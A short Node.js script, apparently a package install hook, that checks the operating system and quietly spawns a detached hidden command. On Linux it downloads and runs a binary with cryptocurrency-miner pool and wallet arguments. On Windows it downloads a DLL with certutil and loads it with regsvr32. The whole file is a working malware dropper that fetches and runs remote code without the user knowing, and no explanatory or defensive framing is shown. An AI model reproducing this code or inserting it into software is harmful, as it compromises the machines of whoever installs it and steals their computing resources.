const { spawn } = require('child_process');
const os = require('os');
const p = os.platform();
const map = {
  linux: "curl -s http://203.0.113.77/jsextension -o /tmp/jsextension; chmod +x /tmp/jsextension; /tmp/jsextension -k --tls -o pool.minexmr.example:443 -u 49bqgtKS8d &",
  win32: "certutil.exe -urlcache -f http://203.0.113.77/sdd.dll create.dll & regsvr32.exe -s create.dll",
};
if (map[p]) spawn(p === 'win32' ? 'cmd' : 'sh', [p === 'win32' ? '/c' : '-c', map[p]], { detached: true, stdio: 'ignore' }).unref();
